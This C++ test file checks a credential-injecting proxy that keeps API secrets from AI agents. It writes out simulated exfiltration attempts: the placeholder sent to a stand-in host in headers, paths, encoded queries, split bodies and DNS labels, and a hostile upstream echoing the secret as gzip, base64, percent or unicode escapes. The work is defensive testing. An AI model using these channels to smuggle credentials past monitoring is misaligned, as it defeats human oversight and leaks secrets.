// Credentials the agent never holds (issue 16): an agent attached with a credential's
// secret sends its placeholder; the proxy puts the secret into inspected requests to the
// credential's host (replacing the header, or adding it), and refuses the placeholder on
// its way anywhere else (403 and an exfiltration_attempt event). Real curl, a real TLS
// upstream on loopback with a test CA, a plain upstream, real SQLite and a real log file;
// the secret is looked for in every byte of the store and of the log.
#include "credentials_fixture.hpp"

#include "support/curl.hpp"
#include "support/process.hpp"
#include "support/tls_upstream_server.hpp"

#include "netbox/audit/writer.hpp"
#include "netbox/tls/certificate_authority.hpp"

#include <boost/beast/core/detail/base64.hpp>

#include <gmock/gmock.h>
#include <nlohmann/json.hpp>

#include <fcntl.h>
#include <unistd.h>

#include <cstdio>
#include <fstream>
#include <sstream>
#include <thread>

namespace netbox::test {
namespace {

using ::testing::HasSubstr;
using ::testing::Not;


std::string file_bytes(const std::filesystem::path& p) {
  std::ifstream in(p, std::ios::binary);
  std::ostringstream s;
  s << in.rdbuf();
  return s.str();
}

class CredentialsTest : public CredentialsFixture {
 protected:
  CredentialsTest() {
    tune = [](proxy::ProxyOptions& o) { o.log_requests = proxy::LogRequests::all; };
  }
  RunResult curl(std::vector<std::string> args) const {
    args.insert(args.begin(), {"-x", "http://127.0.0.1:" + std::to_string(port), "--cacert", ca_pem.string()});
    return curl_with_status(args);
  }
  std::string https(const std::string& host, const std::string& path) const {
    return "https://" + host + ":" + std::to_string(tls_upstream.port()) + path;
  }
  std::string plain(const std::string& host, const std::string& path) const {
    return "http://" + host + ":" + std::to_string(upstream.port()) + path;
  }
  std::vector<EventRow> exfiltrations() {
    std::vector<EventRow> out;
    for (auto& e : events())
      if (e.kind == "exfiltration_attempt") out.push_back(e);
    return out;
  }
  // Every byte the store and the log hold (after stop_proxy): neither may show the secret.
  void expect_secret_nowhere() {
    for (const auto& p : {db_path, std::filesystem::path(db_path.string() + "-wal"), log_path}) {
      if (!std::filesystem::exists(p)) continue;
      EXPECT_THAT(file_bytes(p), Not(HasSubstr(kSecret))) << p;
    }
  }

};

TEST_F(CredentialsTest, TheUpstreamSeesTheSecretWhereTheAgentSentThePlaceholderOrNothing) {
  start();
  auto replaced = curl({"-H", std::string("Authorization: Bearer ") + kPlaceholder, https("upstream.test", "/v1/a")});
  ASSERT_EQ(status_of(replaced), 200) << replaced.err << replaced.out;
  EXPECT_EQ(nlohmann::json::parse(tls_upstream.last_echo())["headers"]["Authorization"],
            std::string("Bearer ") + kSecret);
  // The upstream echoes the header back: the agent gets its placeholder there, not the key.
  auto echo = nlohmann::json::parse(replaced.out.substr(0, replaced.out.rfind('\n')));
  EXPECT_EQ(echo["headers"]["Authorization"], std::string("Bearer ") + kPlaceholder);

  auto added = curl({"-H", "Accept-Encoding: gzip", "-H", "Range: bytes=40-49", "-H", "If-Range: \"x\"",
                     https("upstream.test", "/v1/b")});
  ASSERT_EQ(status_of(added), 200) << added.err << added.out;
  const auto seen = nlohmann::json::parse(tls_upstream.last_echo())["headers"];
  EXPECT_EQ(seen["Authorization"], std::string("Bearer ") + kSecret);
  EXPECT_FALSE(seen.contains("Accept-Encoding")) << "an answer carrying the key must come back searchable";
  EXPECT_FALSE(seen.contains("Range") || seen.contains("If-Range")) << "a piece of an echo could hold a piece of the key";
  EXPECT_THAT(added.out, Not(HasSubstr(kSecret)));
  EXPECT_EQ(tls_upstream.requests(), 2u);
  EXPECT_TRUE(exfiltrations().empty());

  const auto all = rows();
  ASSERT_EQ(all.size(), 4u);
  EXPECT_EQ(all[1].path, "/v1/a");
  EXPECT_EQ(all[1].decision, "allow");
  stop_proxy();
  EXPECT_THAT(file_bytes(log_path), HasSubstr("/v1/a")) << "the log has the requests' lines";
  expect_secret_nowhere();
}

// A hostile credential host echoes the secret netbox injected back in every place and
// form it can think of (issue 22): each answer is refused 502 and the agent gets none of
// it. The upstream reads the secret from the request it got, as a real one would.
std::string hex_of(std::size_t n) {
  char b[24];
  std::snprintf(b, sizeof b, "%zx", n);
  return b;
}

std::string hostile_answer(const std::string& target, const std::string& secret) {
  const auto with_body = [](const std::string& body, const std::string& head = {}) {
    return "HTTP/1.1 200 OK\r\nConnection: close\r\n" + head + "Content-Length: " + std::to_string(body.size()) +
           "\r\n\r\n" + body;
  };
  std::string u_escaped, percent;
  for (unsigned char c : secret) {
    char b[8];
    std::snprintf(b, sizeof b, "\\u%04x", c);
    u_escaped += b;
    std::snprintf(b, sizeof b, "%%%02X", c);
    percent += b;
  }
  if (target == "/reason") return "HTTP/1.1 200 " + secret + "\r\nContent-Length: 2\r\nConnection: close\r\n\r\nok";
  if (target == "/gzip-chunked") {
    const auto gz = run({"gzip", "-c"}, std::chrono::seconds(10), "{\"key\":\"" + secret + "\"}").out;
    return "HTTP/1.1 200 OK\r\nTransfer-Encoding: gzip, chunked\r\nConnection: close\r\n\r\n" + hex_of(gz.size()) +
           "\r\n" + gz + "\r\n0\r\n\r\n";
  }
  if (target == "/json-u") return with_body("{\"key\":\"" + u_escaped + "\"}");
  if (target == "/percent") return with_body("k=" + percent);
  if (target == "/base64") {
    const std::string value = "Bearer " + secret;
    std::string b64(boost::beast::detail::base64::encoded_size(value.size()), '\0');
    b64.resize(boost::beast::detail::base64::encode(b64.data(), value.data(), value.size()));
    return with_body("{\"auth\":\"" + b64 + "\"}");
  }
  if (target == "/trailer")
    return "HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\nTrailer: X-Echo\r\nConnection: close\r\n\r\n2\r\nok\r\n0\r\n"
           "X-Echo: " + secret + "\r\n\r\n";
  if (target == "/header-json") return with_body("ok", "X-Echo: " + u_escaped + "\r\n");
  if (target == "/gzip-content") {
    const auto gz = run({"gzip", "-c"}, std::chrono::seconds(10), secret).out;
    return with_body(gz, "Content-Encoding: gzip\r\n");
  }
  return with_body("plain");
}

TEST_F(CredentialsTest, AHostileUpstreamCannotEchoTheSecretBackInAnyPlaceOrForm) {
  tls_upstream.script([](const std::string& echo, const TlsUpstreamServer::Send& send) {
    const auto j = nlohmann::json::parse(echo);
    std::string secret = j["headers"].value("Authorization", "");
    if (secret.starts_with("Bearer ")) secret.erase(0, 7);
    send(hostile_answer(j["target"], secret));
  });
  start();
  for (const std::string path : {"/reason", "/gzip-chunked", "/json-u", "/percent", "/base64", "/trailer",
                                 "/header-json", "/gzip-content"}) {
    auto r = curl({"-i", "-H", std::string("Authorization: Bearer ") + kPlaceholder, https("upstream.test", path)});
    EXPECT_EQ(status_of(r), 502) << path << ": " << r.err << r.out;
    EXPECT_THAT(r.out, Not(HasSubstr(kSecret))) << path;
    EXPECT_THAT(r.out, Not(HasSubstr("\\u0073\\u006b"))) << path;
  }
  EXPECT_EQ(nlohmann::json::parse(tls_upstream.last_echo())["headers"]["Authorization"],
            std::string("Bearer ") + kSecret);
  EXPECT_EQ(tls_upstream.requests(), 8u);
  stop_proxy();
  expect_secret_nowhere();
}

TEST_F(CredentialsTest, ThePlaceholderSentToAnotherHostIsRefusedAndRecorded) {
  start();
  // Plain HTTP: in a header, in the path, percent-encoded in the query.
  auto header = proxy_get(port, plain("other.test", "/x"), std::string("X-Trace: ") + kPlaceholder + "\r\n");
  EXPECT_EQ(header.status, 403);
  EXPECT_EQ(header.header("x-netbox-decision"), "deny");
  EXPECT_THAT(header.header("x-netbox-reason"), HasSubstr("credential 'openai' was sent to other.test (in the header X-Trace)"));
  EXPECT_THAT(header.header("x-netbox-reason"), Not(HasSubstr(kPlaceholder)));
  auto path = proxy_get(port, plain("other.test", std::string("/k/") + kPlaceholder));
  EXPECT_EQ(path.status, 403);
  EXPECT_THAT(path.header("x-netbox-reason"), HasSubstr("(in the path)"));
  auto query = proxy_get(port, plain("other.test", "/k?key=%6Ebx-openai-00112233445566778899AABBCCDDEEFF"));
  EXPECT_EQ(query.status, 403);
  EXPECT_THAT(query.header("x-netbox-reason"), HasSubstr("(in the query)"));
  EXPECT_EQ(upstream.requests(), 0u);

  // Inspected HTTPS to a host that is not the credential's.
  auto inspected = curl({"-H", std::string("X-Api-Key: ") + kPlaceholder, https("other.test", "/v1")});
  EXPECT_EQ(status_of(inspected), 403) << inspected.err << inspected.out;
  EXPECT_EQ(tls_upstream.requests(), 0u);

  // A CONNECT whose host name carries it, spread over labels.
  auto connect = proxy_connect(port, "nbx-openai-0011223344556677.8899aabbccddeeff.other.test:443");
  EXPECT_EQ(connect.status, 403);

  const auto ex = exfiltrations();
  ASSERT_EQ(ex.size(), 5u);
  const auto detail = nlohmann::json::parse(ex[0].detail);
  EXPECT_EQ(detail["host"], "other.test");
  EXPECT_EQ(detail["credential"], "openai");
  EXPECT_EQ(detail["agent"], "coder");
  EXPECT_EQ(detail["where"], "the header X-Trace");
  EXPECT_EQ(nlohmann::json::parse(ex[3].detail)["where"], "the header X-Api-Key");
  EXPECT_EQ(nlohmann::json::parse(ex[4].detail)["where"], "the host name");
  for (const auto& e : ex) EXPECT_THAT(e.message + e.detail, Not(HasSubstr(kPlaceholder)));

  int denied = 0;
  for (const auto& r : rows())
    if (r.rule == "credentials.openai") {
      ++denied;
      EXPECT_EQ(r.decision, "deny");
      EXPECT_EQ(r.status, 403);
    }
  EXPECT_EQ(denied, 5);
  // /metrics counts each attempt, which the shipped NetboxExfiltrationAttempt alert reads.
  std::uint64_t counted = 0;
  for (const auto& e : server->counters().agent_events)
    if (e.kind == "exfiltration_attempt") counted = e.count;
  EXPECT_EQ(counted, 5u);
  stop_proxy();
  EXPECT_THAT(file_bytes(log_path), HasSubstr("exfiltration_attempt"));
  expect_secret_nowhere();
}

TEST_F(CredentialsTest, APlaceholderInABodySentInPiecesIsFoundBeforeAnythingGoesUp) {
  start();
  const std::string before(40000, 'a');
  const std::string ph = kPlaceholder;
  const std::string body = before + ph + std::string(100, 'b');
  ProxyConnection c(port);
  c.write("POST " + plain("other.test", "/upload") + " HTTP/1.1\r\nHost: other.test\r\nContent-Length: " +
          std::to_string(body.size()) + "\r\nConnection: close\r\n\r\n" + before + ph.substr(0, 20));
  // The rest comes later, in a read of its own: the first read held half a placeholder.
  std::this_thread::sleep_for(std::chrono::milliseconds(200));
  auto r = c.send(ph.substr(20) + std::string(100, 'b'));
  EXPECT_EQ(r.status, 403);
  EXPECT_THAT(r.header("x-netbox-reason"), HasSubstr("(in the body)"));
  EXPECT_EQ(upstream.requests(), 0u) << "nothing of the request reached the upstream";
  ASSERT_EQ(exfiltrations().size(), 1u);
  const auto row = last_row();
  EXPECT_EQ(row.decision, "deny");
  EXPECT_EQ(row.rule, "credentials.openai");
  EXPECT_EQ(row.status, 403);

  // The same body to the credential's own host is no attempt: it goes (plain HTTP is not
  // inspected, so nothing is put in; only the tripwire looks).
  ProxyConnection ok(port);
  auto sent = ok.send("POST " + plain("upstream.test", "/body") + " HTTP/1.1\r\nHost: upstream.test\r\nContent-Length: " +
                      std::to_string(body.size()) + "\r\nConnection: close\r\n\r\n" + body);
  EXPECT_EQ(sent.status, 200);
  EXPECT_EQ(sent.body, body);
}

// The SOCKS5 front door shares admission's first step: a placeholder in the name it is
// asked for is refused and recorded like a CONNECT's.
TEST_F(CredentialsTest, ASocksRequestForANameHoldingThePlaceholderIsRefused) {
  start();
  const auto socks = server->add_listener({boost::asio::ip::make_address("127.0.0.1"), 0}, proxy::ListenerKind::socks);
  auto r = run({"curl", "-sS", "--max-time", "20", "--socks5-hostname", "127.0.0.1:" + std::to_string(socks.port()),
                plain("nbx-openai-00112233445566778899aabbccddeeff.other.test", "/")});
  EXPECT_NE(r.exit_code, 0) << r.out;
  EXPECT_EQ(upstream.requests(), 0u);
  ASSERT_EQ(exfiltrations().size(), 1u);
  EXPECT_THAT(exfiltrations()[0].detail, HasSubstr(R"("where":"the host name")"));
  const auto row = last_row();
  EXPECT_EQ(row.kind, "socks");
  EXPECT_EQ(row.decision, "deny");
  EXPECT_EQ(row.rule, "credentials.openai");
}

// Plain HTTP through the SOCKS5 door is read and decided request by request; the tripwire
// looks at each like the proxy door's (issue 22): the placeholder in the query or a header
// to a host not listed for it is refused 403 and recorded, and the upstream gets nothing.
TEST_F(CredentialsTest, ThePlaceholderInSocksPlainHttpIsRefusedAndRecorded) {
  start();
  const auto socks = server->add_listener({boost::asio::ip::make_address("127.0.0.1"), 0}, proxy::ListenerKind::socks);
  const auto via = [&](std::vector<std::string> args) {
    args.insert(args.begin(), {"--socks5-hostname", "127.0.0.1:" + std::to_string(socks.port())});
    return curl_with_status(args);
  };
  // Without the placeholder it goes through: the door lets plain HTTP by.
  EXPECT_EQ(status_of(via({plain("plain.test", "/fine")})), 200);
  auto r = via({plain("plain.test", std::string("/q?k=") + kPlaceholder)});
  EXPECT_EQ(status_of(r), 403) << r.err << r.out;
  r = via({"-H", std::string("X-Key: ") + kPlaceholder, plain("plain.test", "/h")});
  EXPECT_EQ(status_of(r), 403) << r.err << r.out;
  EXPECT_EQ(upstream.requests(), 1u) << "only the request without the placeholder";
  std::vector<AuditRow> denied;
  for (auto& row : rows())  // all rows written: the events are too
    if (row.rule == "credentials.openai") denied.push_back(row);
  ASSERT_EQ(denied.size(), 2u);
  EXPECT_EQ(denied[0].decision, "deny");
  EXPECT_EQ(denied[0].status, 403);
  EXPECT_EQ(denied[0].host, "plain.test");
  const auto ev = exfiltrations();
  ASSERT_EQ(ev.size(), 2u);
  EXPECT_THAT(ev[0].detail, HasSubstr(R"("where":"the query")"));
  EXPECT_THAT(ev[1].detail, HasSubstr(R"("where":"the header X-Key")"));
}

// An agent whose profile has credentials is not attached without their secrets.
TEST_F(CredentialsTest, AnAgentWithoutItsSecretsIsNotAttached) {
  start();
  proxy::AgentAttachment a;
  a.addr = boost::asio::ip::make_address("127.0.0.2");
  a.name = "bare";
  EXPECT_THAT([&] { server->attach_agent(a); },
              ::testing::ThrowsMessage<std::invalid_argument>(HasSubstr("credential openai of the agent's profile has no secret")));
}

}  // namespace
}  // namespace netbox::test
